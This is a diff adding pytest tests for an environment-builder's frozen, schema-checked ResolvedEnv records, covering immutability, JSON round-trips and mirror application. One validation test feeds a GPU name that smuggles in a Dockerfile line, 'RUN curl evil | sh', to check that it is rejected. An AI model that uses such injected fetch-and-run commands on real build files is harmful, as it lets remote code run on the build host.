@@ -1,0 +1,186 @@
+"""The typed resolved environment (envbuilder/resolved.py): frozen records whose fields are
+matrix_schema.RESOLVED's, round-tripping through JSON, changed only by making a new one."""
+
+from __future__ import annotations
+
+import json
+from types import MappingProxyType
+
+import pytest
+
+from conftest import PROFILES, resolved
+from envbuilder import schema as S
+from envbuilder.errors import UserError
+from envbuilder.matrix_schema import RESOLVED
+from envbuilder.plan import with_constraints
+from envbuilder.record import Record, plain
+from envbuilder.resolved import ResolvedEnv
+
+
+def record_classes() -> dict[str, type]:
+    """Every record of the resolved environment by the path of its field ("" for the whole,
+    "patches[]." for a tuple's items)."""
+    out: dict[str, type] = {}
+
+    def walk(cls, path: str) -> None:
+        out[path] = cls
+        for field, kind in cls._nested.items():
+            key = cls._keys.get(field, field)
+            if isinstance(kind, tuple):
+                walk(kind[0], f"{path}{key}[].")
+            else:
+                walk(kind, f"{path}{key}.")
+
+    walk(ResolvedEnv, "")
+    return out
+
+
+def spec_at(path: str):
+    """RESOLVED's spec of the record at `path` ("gpu.", "patches[]."): a dict of fields."""
+    spec = RESOLVED
+    for part in filter(None, path.split(".")):
+        name = part.removesuffix("[]")
+        key = name if name in spec else f"{name}?"
+        spec = spec[key]
+        if isinstance(spec, tuple):  # (kind, None): may be null
+            spec = spec[0]
+        if part.endswith("[]"):
+            assert isinstance(spec, S.ListOf), path
+            spec = spec.item
+    assert isinstance(spec, dict), f"RESOLVED holds no object at {path!r}"
+    return spec
+
+
+@pytest.mark.parametrize("path", sorted(record_classes()))
+def test_every_record_has_the_fields_the_schema_checks(path):
+    cls = record_classes()[path]
+    spec = spec_at(path)
+    keys = {k.rstrip("?") for k in spec if k != "*"}
+    assert {cls._keys.get(f, f) for f in cls._fields} == keys
+    optional = {k.rstrip("?") for k in spec if k.endswith("?")}
+    # a key the spec lets a file leave out has a default in the record
+    assert optional <= {cls._keys.get(f, f) for f in cls._defaults}
+
+
+# objects of fixed keys that the environment keeps as read-only mappings: role -> image,
+# part -> its autocast key, a patch's {find, with} ("with" is no field name), split -> file,
+# split -> rows, and the memory plan (memory.py's data, read by key)
+FIXED_KEY_MAPS = {"cuda.images", "verl.autocast_keys", "patches[].replace[]", "dataset.files",
+                  "dataset.rows", "memory"}
+
+
+def test_every_object_of_the_schema_is_a_record_or_a_declared_mapping():
+    """An object nested in RESOLVED is a record (typed fields) or a read-only mapping, and every
+    record stands for an object of RESOLVED: none is forgotten on either side."""
+    found = {""}
+
+    def walk(spec: dict, path: str) -> None:
+        for key, sub in spec.items():
+            if key == "*":
+                continue
+            name = key.rstrip("?")
+            inner = sub[0] if isinstance(sub, tuple) else sub
+            if isinstance(inner, dict) and f"{path}{name}" not in FIXED_KEY_MAPS:
+                found.add(f"{path}{name}.")
+                walk(inner, f"{path}{name}.")
+            elif (isinstance(inner, S.ListOf) and isinstance(inner.item, dict)
+                  and f"{path}{name}[]" not in FIXED_KEY_MAPS):
+                found.add(f"{path}{name}[].")
+                walk(inner.item, f"{path}{name}[].")
+
+    walk(RESOLVED, "")
+    assert found == set(record_classes())
+    env = resolved("p40")
+    for path in FIXED_KEY_MAPS - {"patches[].replace[]"}:
+        value = env
+        for part in path.split("."):
+            value = getattr(value, part)
+        assert isinstance(value, MappingProxyType), path
+    assert isinstance(env.patches[0].replace[0], MappingProxyType)
+
+
+@pytest.mark.parametrize("profile", PROFILES)
+def test_json_round_trips_to_the_same_bytes_and_the_same_record(profile):
+    env = with_constraints(resolved(profile))
+    text = env.to_json()
+    back = ResolvedEnv.from_json(text)
+    assert back == env
+    assert back.to_json() == text
+    assert type(back.gpu).__name__ == "Gpu" and back.gpu.compute_capability == env.gpu.compute_capability
+
+
+def test_nothing_reached_through_an_environment_can_be_changed_in_place():
+    env = resolved("h200")
+    with pytest.raises(AttributeError):
+        env.dtype = "fp32"
+    with pytest.raises(AttributeError):
+        env.torch.version = "9.9.9"
+    with pytest.raises(AttributeError):
+        del env.gpu.name
+    with pytest.raises(TypeError):
+        env.verl.pins["transformers"] = "0.0.1"
+    with pytest.raises(TypeError):
+        env.cuda.images["runtime"] = "evil:latest"
+    with pytest.raises(TypeError):
+        env.memory["batch"]["val_batch_size"] = 10**6
+    assert isinstance(env.training_path, tuple) and isinstance(env.patches, tuple)
+    assert isinstance(env.flash_attn.cuda_tags, MappingProxyType)
+    # all the way down: no list or dict is left anywhere in it
+    def walk(value):
+        assert not isinstance(value, (list, dict)), value
+        if isinstance(value, Record):
+            for v in value._asdict().values():
+                walk(v)
+        elif isinstance(value, (tuple, MappingProxyType)):
+            for v in (value.values() if isinstance(value, MappingProxyType) else value):
+                walk(v)
+    walk(env)
+
+
+def test_a_mirror_and_a_lock_make_new_environments_and_leave_the_old_one_as_it_was():
+    from envbuilder import mirrors as M
+
+    env = resolved("p40")
+    before = env.to_json()
+    choice = M.MirrorChoice("cn", {"docker.io": "mirror.example"}, pypi="https://pypi.example/simple",
+                            github="https://gh.example")
+    mirrored = M.apply_to_env(with_constraints(env), choice)
+    assert env.to_json() == before
+    assert mirrored.indexes.pypi == "https://pypi.example/simple"
+    assert mirrored.apex.url.startswith("https://gh.example/")
+    assert mirrored.mirror.name == "cn" and env.mirror is None
+    assert mirrored.gpu is env.gpu  # (what the mirror leaves alone is shared, not copied)
+
+
+def test_an_unmirrored_environment_writes_no_mirror_key_and_reads_back_without_one():
+    data = json.loads(resolved("4090").to_json())
+    assert "mirror" not in data and data["constraints"] is None
+    assert ResolvedEnv.from_dict(data).mirror is None
+
+
+def test_from_dict_checks_what_it_is_given():
+    data = json.loads(resolved("p40").to_json())
+    data["gpu"]["name"] = "P40\n RUN curl evil | sh"
+    with pytest.raises(UserError, match="gpu.name"):
+        ResolvedEnv.from_dict(data, "image.json")
+    with pytest.raises(UserError, match="schema version"):
+        ResolvedEnv.from_dict(["not", "an", "object"])
+    data = json.loads(resolved("p40").to_json())
+    del data["gpu"], data["train"]["n_gpus"]
+    with pytest.raises(UserError) as e:
+        ResolvedEnv.from_dict(data)
+    assert "gpu is missing; train.n_gpus is missing" in str(e.value)
+    data = json.loads(resolved("p40").to_json())
+    data["torch"] = "2.6.0"
+    with pytest.raises(UserError, match="torch: expected a mapping"):
+        ResolvedEnv.from_dict(data)
+
+
+def test_plain_data_of_an_environment_is_what_the_file_holds():
+    env = with_constraints(resolved("t4"))
+    assert plain(env) == json.loads(env.to_json())
+    assert env.to_dict()["overrides"] == {}
+    over = resolved("4090", with_=["flash-attn"], driver="560.35.03")
+    assert over.to_dict()["overrides"] == {"driver": "560.35.03", "with": ["flash-attn"]}
+    assert over.driver.mode == "native" and over.to_dict()["driver"]["mode"] == "native"
+    assert "mode" not in resolved("4090").to_dict()["driver"]
